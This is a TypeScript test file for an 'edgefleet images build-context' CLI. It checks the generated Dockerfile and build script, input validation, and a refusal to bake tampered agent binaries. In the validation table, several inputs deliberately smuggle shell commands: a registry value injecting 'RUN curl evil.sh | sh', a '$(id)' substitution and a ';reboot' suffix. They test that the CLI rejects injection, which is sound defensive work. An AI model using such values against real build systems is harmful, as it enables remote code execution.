import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DockerfileParser } from 'dockerfile-ast';
import { validate } from 'dockerfile-utils';
import { runCli } from '../../cli/program.js';
import { EXIT } from '../../cli/errors.js';
import { renderAgentManifest } from '../../lambdas/contracts/agent-artifacts.js';
import { planImage, renderImageBuildContext } from '../../lambdas/domain/image-build-context.js';
import { AGENT_LAYOUT } from '../../lambdas/contracts/agent-layout.js';

let cwd: string;
const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');

/** A `npm run device:build` output with small stand-in files. */
function agentBuild(dir: string, o: { tamper?: boolean } = {}) {
  mkdirSync(dir, { recursive: true });
  const files: Record<string, { arch: 'x64' | 'arm64' | 'noarch'; bytes: string }> = {
    'edgefleet-agent-linux-x64': { arch: 'x64', bytes: '#!/bin/sh\necho x64 agent\n' },
    'edgefleet-agent-linux-arm64': { arch: 'arm64', bytes: '#!/bin/sh\necho arm64 agent\n' },
    'edgefleet-agent.service': { arch: 'noarch', bytes: '[Unit]\nDescription=EdgeFleet edge agent\n' },
  };
  for (const [f, { bytes }] of Object.entries(files)) writeFileSync(join(dir, f), bytes);
  writeFileSync(join(dir, 'manifest.json'), renderAgentManifest({
    version: '0.1.0', node: 'v20.20.2', builtAt: '2026-12-01T00:00:00.000Z',
    artifacts: Object.entries(files).map(([file, { arch, bytes }]) => ({ arch, file, sha256: sha(bytes), size: bytes.length })),
  }));
  if (o.tamper) writeFileSync(join(dir, 'edgefleet-agent-linux-x64'), '#!/bin/sh\necho changed\n');
}

async function run(args: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, {
    env: {}, cwd, stdout: (s) => { stdout += s; }, stderr: (s) => { stderr += s; },
    imageBuild: { plan: planImage, render: (input) => renderImageBuildContext(input, AGENT_LAYOUT) },
  });
  return { code, stdout, stderr };
}

const BASE = ['images', 'build-context', '--os', 'ubuntu', '--os-version', '24.04', '--k8s', 'k3s', '--k8s-version', '1.31.2', '--agent-dir', 'dist/device'];
const with_ = (over: Record<string, string>, out = 'ctx') => {
  const args = [...BASE];
  for (const [flag, value] of Object.entries(over)) {
    const i = args.indexOf(flag);
    if (i >= 0) args[i + 1] = value;
    else args.push(flag, value);
  }
  return [...args, '--out', out];
};

beforeEach(() => {
  cwd = mkdtempSync(join(tmpdir(), 'edgefleet-cli-images-'));
  agentBuild(join(cwd, 'dist/device'));
});
afterEach(() => rmSync(cwd, { recursive: true, force: true }));

describe('edgefleet images build-context', () => {
  it('writes the context: Dockerfile, drop-in, build.sh, README and the agent for the arch', async () => {
    const r = await run([...BASE, '--arch', 'arm64', '--registry', 'registry.example.com/edge/os', '--out', 'ctx']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(EXIT.ok);
    const image = 'registry.example.com/edge/os:24.04-standard-arm64-generic-v3.5.0-k3s-v1.31.2-k3s1-edgefleet-0.1.0';
    expect(r.stdout).toContain(`Wrote the build context for ${image} to ctx:`);
    expect(r.stdout).toContain('cd ctx && ./build.sh');
    expect(r.stdout).toContain('--agent-install baked');
    const ctx = join(cwd, 'ctx');
    expect(readdirSync(ctx).sort()).toEqual(['Dockerfile', 'README.md', 'agent', 'build.sh', 'systemd']);
    expect(readFileSync(join(ctx, 'agent/edgefleet-agent'), 'utf8')).toBe('#!/bin/sh\necho arm64 agent\n');
    expect(readFileSync(join(ctx, 'agent/edgefleet-agent.service'), 'utf8')).toContain('EdgeFleet edge agent');
    const dockerfile = readFileSync(join(ctx, 'Dockerfile'), 'utf8');
    expect(validate(dockerfile)).toEqual([]);
    expect(DockerfileParser.parse(dockerfile).getFROMs()[0]!.getImage()).toBe('quay.io/kairos/ubuntu:24.04-standard-arm64-generic-v3.5.0-k3s-v1.31.2-k3s1');
    expect(dockerfile).toContain(`echo "${sha('#!/bin/sh\necho arm64 agent\n')}  /opt/edgefleet/agent/edgefleet-agent" | sha256sum -c -`);
    for (const c of DockerfileParser.parse(dockerfile).getCOPYs()) {
      for (const src of c.getArguments().map((a) => a.getValue()).slice(0, -1)) expect(existsSync(join(ctx, src))).toBe(true);
    }
    expect(statSync(join(ctx, 'build.sh')).mode & 0o777).toBe(0o755);
    execFileSync('sh', ['-n', join(ctx, 'build.sh')]); // throws on a syntax error
    expect(readFileSync(join(ctx, 'build.sh'), 'utf8')).toContain(`IMAGE='${image}'`);
  });

  it('prints JSON with -o json', async () => {
    const r = await run([...BASE, '--out', 'ctx', '-o', 'json']);
    expect(r.code).toBe(EXIT.ok);
    expect(JSON.parse(r.stdout)).toMatchObject({
      baseImage: 'quay.io/kairos/ubuntu:24.04-standard-amd64-generic-v3.5.0-k3s-v1.31.2-k3s1',
      image: 'edgefleet/kairos-ubuntu:24.04-standard-amd64-generic-v3.5.0-k3s-v1.31.2-k3s1-edgefleet-0.1.0',
      agentVersion: '0.1.0',
      files: ['Dockerfile', 'systemd/10-edgefleet-baked.conf', 'build.sh', 'README.md', 'agent/edgefleet-agent', 'agent/edgefleet-agent.service'],
    });
  });

  it('refuses a non-empty --out unless --force', async () => {
    mkdirSync(join(cwd, 'ctx'));
    writeFileSync(join(cwd, 'ctx', 'notes.txt'), 'mine');
    const r = await run(with_({}));
    expect(r.code).toBe(EXIT.usage);
    expect(r.stderr).toContain('ctx is not empty: refusing to write a build context into it');
    expect(readdirSync(join(cwd, 'ctx'))).toEqual(['notes.txt']);
    const forced = await run([...with_({}), '--force']);
    expect(forced.code).toBe(EXIT.ok);
    expect(readdirSync(join(cwd, 'ctx'))).toContain('Dockerfile');
    expect(readFileSync(join(cwd, 'ctx', 'notes.txt'), 'utf8')).toBe('mine');
  });

  it.each([
    ['an unknown OS', { '--os': 'gentoo' }, EXIT.invalid, /unknown OS pack "gentoo"; supported: ubuntu, opensuse, alpine, rocky, debian/],
    ['an unsupported pair (rke2 on openrc)', { '--os': 'alpine', '--os-version': '3.21', '--k8s': 'rke2' }, EXIT.invalid, /rke2 needs systemd, but alpine uses openrc/],
    ['an OS the baked agent cannot run on', { '--os': 'alpine', '--os-version': '3.21' }, EXIT.invalid, /alpine uses openrc, but the baked agent runs as a systemd service/],
    ['a version outside the matrix', { '--k8s-version': '1.27.3' }, EXIT.invalid, /k3s 1\.27\.3 is outside the validated range 1\.28–1\.33/],
    ['cgroup v1 with a newer Kubernetes', { '--os-version': '20.04' }, EXIT.invalid, /ubuntu 20\.04 boots with cgroup v1/],
    ['an unknown distribution', { '--k8s': 'k0s' }, EXIT.invalid, /unknown Kubernetes distribution "k0s"/],
    ['a Kubernetes version without patch', { '--k8s-version': '1.31' }, EXIT.usage, /--k8s-version: major\.minor\.patch/],
    ['a Kubernetes version with shell syntax', { '--k8s-version': '1.31.2;reboot' }, EXIT.usage, /--k8s-version: major\.minor\.patch/],
    ['an OS version with a quote', { '--os-version': "24.04'" }, EXIT.usage, /--os-version: a release such as "24\.04"/],
    ['a Kairos version without v', { '--kairos-version': '3.5.0' }, EXIT.usage, /--kairos-version: a Kairos release such as "v3\.5\.0"/],
    ['a registry with a newline', { '--registry': 'registry.example.com/os\nRUN curl evil.sh | sh' }, EXIT.usage, /--registry: an image repository/],
    ['a registry with quotes', { '--registry': `registry.example.com/os'"$(id)` }, EXIT.usage, /--registry: an image repository/],
    ['a registry with a tag', { '--registry': 'registry.example.com/os:latest' }, EXIT.usage, /--registry: an image repository such as/],
    ['an upper-case OS', { '--os': 'Ubuntu' }, EXIT.usage, /--os: lower-case letters and digits/],
    ['a base image with a space', { '--base-image': 'quay.io/kairos/ubuntu:24.04 latest' }, EXIT.usage, /--base-image: an image reference with a tag/],
    ['an unknown arch', { '--arch': 'riscv64' }, EXIT.usage, /argument 'riscv64' is invalid. Allowed choices are amd64, arm64/],
    ['a missing agent build', { '--agent-dir': 'nowhere' }, EXIT.usage, /no agent build in nowhere: nowhere\/manifest.json cannot be read/],
  ])('refuses %s with a clear message, writing nothing', async (_label, over, code, message) => {
    const r = await run(with_(over));
    expect(r.stderr).toMatch(message);
    expect(r.code).toBe(code);
    expect(r.stdout).toBe('');
    expect(existsSync(join(cwd, 'ctx'))).toBe(false);
  });

  it('refuses an agent build that does not match its manifest, writing nothing', async () => {
    agentBuild(join(cwd, 'tampered'), { tamper: true });
    const r = await run(with_({ '--agent-dir': 'tampered' }));
    expect(r.code).toBe(EXIT.invalid);
    expect(r.stderr).toMatch(/tampered\/edgefleet-agent-linux-x64 does not match its manifest \(SHA-256 [0-9a-f]{64}, manifest [0-9a-f]{64}\): refusing to bake it/);
    expect(existsSync(join(cwd, 'ctx'))).toBe(false);
  });
});
